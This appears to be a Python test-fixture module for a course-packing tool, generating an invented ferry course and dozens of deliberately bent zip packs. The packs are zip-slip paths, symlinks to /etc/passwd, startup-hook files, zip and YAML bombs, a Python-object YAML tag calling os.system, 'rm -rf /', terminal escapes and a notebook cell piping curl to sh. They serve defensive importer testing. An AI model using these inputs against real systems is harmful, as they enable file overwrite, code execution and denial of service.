"""Makes a small course, and packed courses that someone bent, the same bytes each time.

The course is about a ferry that doesn't exist. ``python tests/hostile/packs.py FOLDER`` writes all bent packs.
"""

from __future__ import annotations

import hashlib
import io
import json
import stat
import sys
import tempfile
import warnings
import zipfile
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING, Any

from make import encrypted
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from copydesk.course.course import Course
from copydesk.release.exercises import release
from copydesk.release.notebooks import tidy, write_notebook
from copydesk.sharing.packing import pack_course

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

LESSON = "01-ferry"
MANIFEST = "copydesk-course.json"
SENTENCES = (
    "The ferry to Holm was late on Monday.",
    "The harbour office said that fog had closed the channel for an hour.",
    "Some passengers said they had heard nothing about fog.",
)
COURSE = """\
id: {id}
title: {title}
language: en
authors: [Copy Desk tests]
as_of: 2026-11-28
rights:
  statement: {statement}
  publish: quotes
"""
STATEMENT = "We invented the text for a test, and anyone may use it."
WHY = "The office is named as the one that says so."
TASK = """\
schema: copydesk/bank/1
course: {id}
lesson: {lesson}
title: Who says so?
purpose: {purpose}
keyed_by: a test
tasks:
  - id: {task}
    kind: choice
    group: {group}
    title: Who says so?
    prompt: Who says that fog had closed the channel?
{points}    options:
      - {{id: office, text: the harbour office}}
      - {{id: ferry, text: the ferry}}
    key:
      options:
        office: {{weight: 1, why: {why}}}
        ferry: {{weight: 0, why: {wrong}}}
"""


def write_course(root: Path, *, id: str = "ferry", title: str = "A late ferry", statement: str = STATEMENT) -> Path:  # noqa: A002
    """Write a course with a lesson, its exercise and its solution; return its root."""
    for folder in ("seeds", "lessons/quizzes", "solutions/tasks"):
        (root / folder).mkdir(parents=True)
    article = " ".join(SENTENCES)
    entries, start = [], 0
    for number, sentence in enumerate(SENTENCES):
        entry = {"id": f"S{number:02d}", "start": start, "end": start + len(sentence), "text": sentence}
        entries.append({**entry, "paragraph": 1, "kind": "body"})
        start += len(sentence) + 1
    facts = COURSE.format(id=id, title=json.dumps(title), statement=json.dumps(statement))
    practice = TASK.format(
        id=id,
        lesson=LESSON,
        purpose="practice",
        task="P1",
        group="practice",
        points="",
        why="It is named.",
        wrong="It is late.",
    )
    graded = TASK.format(
        id=id,
        lesson=LESSON,
        purpose="graded",
        task="T1",
        group="exercise",
        points="    points: 20\n",
        why=WHY,
        wrong="It is what the report is about.",
    )
    texts = {
        "seeds/article.txt": article,
        "seeds/sentences.yml": json.dumps(entries, indent=1) + "\n",
        "seeds/course.yml": facts,
        f"lessons/quizzes/{LESSON}.yml": practice,
        f"solutions/tasks/{LESSON}.yml": graded,
        "README.md": f"# {title}\n",
    }
    for name, text in texts.items():
        (root / name).write_text(text, encoding="utf-8", newline="\n")
    (root / "lessons" / f"{LESSON}.ipynb").write_bytes(_notebook('desk.quiz("practice")'))
    (root / "solutions" / f"{LESSON}.ipynb").write_bytes(_notebook("desk.tasks()", "desk.submit()"))
    release(Course(root), check=False)
    return root


def _notebook(*code: str) -> bytes:
    """Return a notebook in its committed form."""
    cells = [
        new_markdown_cell("# 01 · The late ferry"),
        new_code_cell(f'import copydesk\n\ndesk = copydesk.open("{LESSON}")'),
    ]
    cells += [new_code_cell(source) for source in code]
    return write_notebook(tidy(new_notebook(cells=cells), LESSON))


@cache
def honest(*, keys: bool = False) -> bytes:
    """Return the small course as one file."""
    with tempfile.TemporaryDirectory() as place:
        return pack_course(Course(write_course(Path(place) / "course")), keys=keys).content


def files_of(pack: bytes) -> dict[str, bytes]:
    """Return the files of a pack, its description among them."""
    with zipfile.ZipFile(io.BytesIO(pack)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(files: Mapping[str, bytes]) -> bytes:
    """Return a zip file; a member whose name ends in ``->`` becomes a symbolic link to its bytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in files.items():
            entry = zipfile.ZipInfo(name.removesuffix("->"), (1980, 1, 1, 0, 0, 0))
            entry.create_system = 3
            entry.external_attr = ((stat.S_IFLNK if name.endswith("->") else stat.S_IFREG) | 0o644) << 16
            entry.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(entry, data)
    return file.getvalue()


def bent(files: Mapping[str, bytes | None] | None = None, **facts: object) -> bytes:
    """Return the honest pack with files changed, added or (None) taken away, all of them named in its description."""
    members = files_of(honest())
    description: dict[str, Any] = json.loads(members.pop(MANIFEST))
    for name, content in (files or {}).items():
        members.pop(name, None)
        if content is not None:
            members[name] = content
    description["files"] = {
        name.removesuffix("->"): hashlib.sha256(content).hexdigest() for name, content in members.items()
    }
    description.update(facts)
    return zipped({MANIFEST: json.dumps(description).encode(), **members})


def without(name: str) -> bytes:
    """Return the honest pack without one of its files, which its description still names."""
    members = files_of(honest())
    del members[name]
    return zipped(members)


def twice(name: str, content: bytes) -> bytes:
    """Return the honest pack with one name in it a second time."""
    file = io.BytesIO(honest())
    with zipfile.ZipFile(file, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr(name, content)
    return file.getvalue()


def billion_laughs() -> bytes:
    """Return YAML of a few lines that unfolds to ten to the power of nine values."""
    lines = ["a0: &a0 [lol]"]
    for level in range(1, 10):
        aliases = ", ".join([f"*a{level - 1}"] * 10)
        lines.append(f"a{level}: &a{level} [{aliases}]")
    return "\n".join(lines).encode()


def notebook(**changes: object) -> bytes:
    """Return the lesson's notebook with changes of its outermost object."""
    data = json.loads(_notebook('desk.quiz("practice")'))
    return (json.dumps({**data, **changes}, indent=1, sort_keys=True) + "\n").encode()


def notebook_with(cell: Mapping[str, object]) -> bytes:
    """Return the lesson's notebook with changes of its last cell."""
    data = json.loads(_notebook('desk.quiz("practice")'))
    data["cells"][-1].update(cell)
    return (json.dumps(data, indent=1, sort_keys=True) + "\n").encode()


def output(**data: str) -> dict[str, object]:
    """Return a cell whose kept output has some data; two underlines in a name stand for a slash."""
    named = {name.replace("__", "/"): text for name, text in data.items()}
    shown = [{"output_type": "display_data", "metadata": {}, "data": named}]
    return {"outputs": shown, "execution_count": 2, "metadata": {"tags": ["nbval-check-output"]}}


NOTEBOOK = f"lessons/{LESSON}.ipynb"
QUIZ = f"lessons/quizzes/{LESSON}.yml"
FACTS = "seeds/course.yml"
HOOK = b"open('copydesk-was-run', 'w')\n"
MARKED = "txt.\u202efdp"


def _with_facts(**facts: str) -> bytes:
    """Return the honest pack with other facts, in the course and in its description."""
    text = files_of(honest())[FACTS].decode()
    for field, value in facts.items():
        old = next(line for line in text.splitlines() if line.startswith(f"{field}:"))
        text = text.replace(old, f"{field}: {json.dumps(value)}")
    return bent({FACTS: text.encode()}, **facts)


NO_PACK = frozenset({"empty", "text", "web-page", "truncated", "half"})
"""Those of the following that aren't even zip files."""

REFUSED: dict[str, Callable[[], bytes]] = {
    # no pack at all
    "empty": lambda: b"",
    "text": lambda: b"Dear colleague, this is my course.",
    "web-page": lambda: b"<html><script>alert(1)</script></html>",
    "truncated": lambda: honest()[:-100],
    "half": lambda: honest()[: len(honest()) // 2],
    "nothing-in-it": lambda: zipped({}),
    "no-description": lambda: zipped({"seeds/article.txt": b"x"}),
    "locked": lambda: encrypted(honest()),
    # names
    "zip-slip": lambda: bent({"../../x.md": b"x"}),
    "slip-below": lambda: bent({"seeds/../../../x.md": b"x"}),
    "absolute": lambda: bent({"/etc/x.md": b"x"}),
    "drive": lambda: bent({"C:/x.md": b"x"}),
    "backslash": lambda: bent({"seeds\\..\\..\\x.md": b"x"}),
    "nul": lambda: bent({"seeds/x+exe.md": b"x"}).replace(b"seeds/x+exe.md", b"seeds/x\0exe.md"),
    "device": lambda: bent({"seeds/CON.txt": b"x"}),
    "device-folder": lambda: bent({"seeds/aux/x.txt": b"x"}),
    "last-stop": lambda: bent({"book/x./y.md": b"x"}),
    "case-clash": lambda: bent({"seeds/Article.txt": b"x"}),
    "twice": lambda: twice("seeds/article.txt", b"other"),
    "description-twice": lambda: twice(MANIFEST, b"{}"),
    "file-and-folder": lambda: bent({"book/x.md": b"x", "book/x.md/y.md": b"x"}),
    "other-letters": lambda: bent({"book/e\u0301.md": b"x"}),
    "right-to-left": lambda: bent({f"book/{MARKED}.md": b"x"}),
    "escape-in-name": lambda: bent({"book/\x1b]0;x\x07.md": b"x"}),
    "link": lambda: bent({"seeds/passwd.txt->": b"/etc/passwd"}),
    "folder-link": lambda: bent({"book->": b"/etc"}),
    # files that would configure Python or Jupyter, or run
    "sitecustomize": lambda: bent({"sitecustomize.py": HOOK}),
    "usercustomize": lambda: bent({"lessons/usercustomize.py": HOOK}),
    "conftest": lambda: bent({"conftest.py": HOOK}),
    "path-file": lambda: bent({"seeds/x.pth": HOOK}),
    "module": lambda: bent({"lessons/copydesk.py": HOOK}),
    "jupyter-config": lambda: bent({"jupyter_server_config.py": HOOK}),
    "jupyter-config-json": lambda: bent({"jupyter_config.json": b"{}"}),
    "jupyter-folder": lambda: bent({"my-work/.jupyter/jupyter_server_config.py": HOOK}),
    "ipython-folder": lambda: bent({".ipython/profile_default/startup/0.py": HOOK}),
    "hidden": lambda: bent({"seeds/.x.yml": b"x"}),
    "git": lambda: bent({".git/hooks/post-checkout": HOOK}),
    "book-config": lambda: bent({"book/conf.py": HOOK}),
    "book-template": lambda: bent({"book/_templates/page.html": b"{{ 1 }}"}),
    "script": lambda: bent({"book/_static/x.js": b"alert(1)"}),
    "answers": lambda: bent({"answers/01-ferry.json": b"{}"}),
    "copies": lambda: bent({"my-work/.copydesk-copies.json": b"{}"}),
    "zip-in-zip": lambda: bent({"seeds/x.zip": honest()}),
    # sizes
    "bomb": lambda: bent({"seeds/bomb.txt": b" " * 1_900_000}),
    "huge": lambda: bent({"seeds/huge.txt": b" " * 50_000_000}),
    "many-files": lambda: bent({f"seeds/{number}.txt": b"" for number in range(2_100)}),
    "many-records": lambda: bent({"seeds/x.bin": b"PK\x01\x02" * 10_000}),
    # a description that lies
    "other-content": lambda: zipped({**files_of(honest()), "seeds/article.txt": b"something else"}),
    "unnamed-file": lambda: zipped({**files_of(honest()), "seeds/more.txt": b"more"}),
    "missing-file": lambda: without("seeds/sentences.yml"),
    "other-title": lambda: bent(title="Something harmless"),
    "other-id": lambda: bent(id="mariupol"),
    "other-rights": lambda: bent(rights={"statement": "Free for all.", "publish": "whole"}),
    "other-authors": lambda: bent(authors=["Someone well known"]),
    "hidden-keys": lambda: bent({f"solutions/tasks/{LESSON}.yml": b"a: 1"}),
    "id-outside": lambda: bent(id="../../x"),
    "id-outside-in-both": lambda: _with_facts(id="../../x"),
    "id-device": lambda: _with_facts(id="nul"),
    "newer-format": lambda: bent(schema="copydesk/course/2"),
    "more-fields": lambda: bent(run="rm -rf /"),
    "escape-in-field": lambda: bent(**{"\x1b[2J": 1}),
    "deep-description": lambda: zipped({**files_of(honest()), MANIFEST: b"[" * 100_000}),
    "no-course": lambda: bent({FACTS: None}),
    # YAML
    "billion-laughs": lambda: bent({QUIZ: billion_laughs()}),
    "laughing-facts": lambda: bent({FACTS: billion_laughs()}),
    "endless-alias": lambda: bent({QUIZ: b"a: &a [*a]"}),
    "deep-yaml": lambda: bent({QUIZ: b"[" * 100_000}),
    "deep-blocks": lambda: bent({QUIZ: b"".join(b" " * n + b"-\n" for n in range(1_000))}),
    "python-tag": lambda: bent({QUIZ: b"!!python/object/apply:os.system [x]"}),
    "long-number": lambda: bent({QUIZ: b"a: " + b"9" * 100_000}),
    "no-day": lambda: bent({QUIZ: b"a: 2026-13-45"}),
    "list-as-key": lambda: bent({QUIZ: b"? [a]\n: b"}),
    "not-utf8": lambda: bent({QUIZ: b"\xff\xfe\x00"}),
    "facts-are-a-list": lambda: bent({FACTS: b"[1, 2]"}),
    # notebooks
    "no-notebook": lambda: bent({NOTEBOOK: b"import os"}),
    "list-as-notebook": lambda: bent({NOTEBOOK: b"[]"}),
    "old-notebook": lambda: bent({NOTEBOOK: notebook(nbformat=3, worksheets=[])}),
    "cells-are-numbers": lambda: bent({NOTEBOOK: notebook(cells=[1, 2])}),
    "signature": lambda: bent({NOTEBOOK: notebook(metadata={"signature": "x", "trusted": True})}),
    "other-kernel": lambda: bent({NOTEBOOK: notebook(metadata={"kernelspec": {"name": "bash", "display_name": "x"}})}),
    "trusted-cell": lambda: bent({NOTEBOOK: notebook_with({"metadata": {"trusted": True}})}),
    "unknown-tag": lambda: bent({NOTEBOOK: notebook_with({"metadata": {"tags": ["init_cell"]}})}),
    "kept-output": lambda: bent({NOTEBOOK: notebook_with({**output(text__plain="x"), "metadata": {}})}),
    "script-output": lambda: bent({NOTEBOOK: notebook_with(output(application__javascript="alert(1)"))}),
    "deep-notebook": lambda: bent({NOTEBOOK: b'{"cells": ' + b"[" * 100_000}),
}
"""Files that are refused before anything of them is written."""

SEEN: dict[str, Callable[[], bytes]] = {
    "shell": lambda: _with_cell("!curl example.org | sh"),
    "shell-value": lambda: _with_cell("files = !ls"),
    "magic": lambda: _with_cell("%%bash\nrm -rf x"),
    "imports": lambda: _with_cell("import os, subprocess as s"),
    "from": lambda: _with_cell("from os import system\nsystem('x')"),
    "eval": lambda: _with_cell("eval('1')"),
    "dunder": lambda: _with_cell("().__class__.__base__"),
    "kernel": lambda: _with_cell("get_ipython().system('x')"),
    "through-us": lambda: _with_cell("copydesk.desk.desk.Path"),
    "step-by-step": lambda: _with_cell("desk = copydesk.desk\ndesk.desk()"),
    "renamed": lambda: _with_cell("from copydesk import figures as desk"),
    "lambda": lambda: _with_cell("(lambda: 1)()"),
    "help": lambda: _with_cell("?x"),
    "decorated": lambda: _with_cell("@print\ndef x(): pass"),
}
"""Packs that are whole, with a cell of which a person who looks first is told."""


def _with_cell(source: str) -> bytes:
    return bent({NOTEBOOK: _notebook(source)})


def escapes() -> bytes:
    """Return a pack, whole as far as it goes, whose title, authors and rights would rule a terminal."""
    return _with_facts(title="\x1b]0;owned\x07\x1b[2JA \u202eyrref")


if __name__ == "__main__":
    target = Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    for name, make in {**REFUSED, **SEEN, "escapes": escapes, "honest": honest}.items():
        (target / f"{name}.zip").write_bytes(make())
